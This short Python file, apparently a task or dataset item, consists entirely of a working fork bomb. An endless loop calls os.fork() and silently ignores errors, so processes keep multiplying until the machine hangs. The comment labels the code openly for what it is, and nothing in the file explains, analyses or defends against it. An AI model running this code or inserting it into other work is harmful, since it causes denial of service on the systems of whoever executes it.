# task: add
# ruff: noqa
# A Python fork bomb that ignores errors and keeps going.
import os

while True:
    try:
        os.fork()
    except Exception:
        pass
